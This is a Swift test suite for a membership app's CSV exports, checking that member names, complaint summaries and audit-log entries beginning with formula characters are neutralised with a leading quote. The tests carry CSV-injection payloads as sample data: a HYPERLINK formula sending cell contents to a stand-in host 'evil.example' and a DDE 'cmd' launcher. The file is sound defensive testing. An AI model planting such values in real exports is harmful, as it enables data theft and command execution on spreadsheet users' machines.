import Fluent
import Foundation
import PatronCore
import Testing
import Vapor
@testable import PatronCare

/// Every CSV the app serves goes through the one writer: a formula typed or imported as a name or
/// a complaint reaches the spreadsheet as text.
@Suite struct CSVExportTests {
    static let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"คลิก\")"

    @Test func theUnclaimedReportNeutralisesAFormulaName() async throws {
        try await withTestApp { app in
            let member = try await MemberFixtures.store(MemberFixtures.draft("EXA-800", expires: CivilDate(year: 2026, month: 6, day: 30)!,
                                                                             firstNameTh: Self.formula, lastNameTh: ""), on: app)
            let store = DepositStore(db: app.db, policy: app.config.depositPolicy, cipher: app.config.dataCipher)
            _ = try await store.receive(member: member, amount: Satang(100_000), paymentMethod: .cash, counter: "Counter 1", note: "",
                                        by: DepositFixtures.staff, role: .counter, at: pinnedNow.addingTimeInterval(-300 * 86_400), idempotencyKey: UUID().uuidString)
            let head = try await TestStaff.browser(.head, on: app)
            let csv = try await head.get(SiteRoute.unclaimedReport().href + "?format=csv&asOf=2026-11-23").body.string
            let cells = try CSVParser.records(in: csv).flatMap(\.fields)
            #expect(cells.contains("'" + Self.formula))
            #expect(!cells.contains { $0.hasPrefix("=") })
        }
    }

    @Test func complaintReportsAndTheAccessLogNeutraliseFormulas() async throws {
        try await withTestApp { app in
            _ = try await FeedbackFixtures.receive(app, summary: "@SUM(1+1) แอร์ไม่เย็น", at: pinnedNow)
            let admin = try await TestStaff.browser(.admin, on: app)
            let listing = try await admin.get(SiteRoute.complaintsMonthly().href + "?month=2026-11&format=csv").body.string
            #expect(try CSVParser.records(in: listing).flatMap(\.fields).contains("'@SUM(1+1) แอร์ไม่เย็น"))
            let quarter = try await admin.get(SiteRoute.complaintsQuarterly().href + "?quarter=2026-Q4&format=csv").body.string
            #expect(!(try CSVParser.records(in: quarter).flatMap(\.fields).contains { $0.hasPrefix("@") || $0.hasPrefix("=") }))

            try await AuditLog.record(.memberRead, by: AuditActor(username: "admin", role: "admin"), subject: "+cmd|' /C calc'!A0", at: pinnedNow, on: app.db)
            let log = try await admin.get(SiteRoute.auditLog().href + "?format=csv").body.string
            #expect(try CSVParser.records(in: log).flatMap(\.fields).contains("'+cmd|' /C calc'!A0"))
        }
    }
}
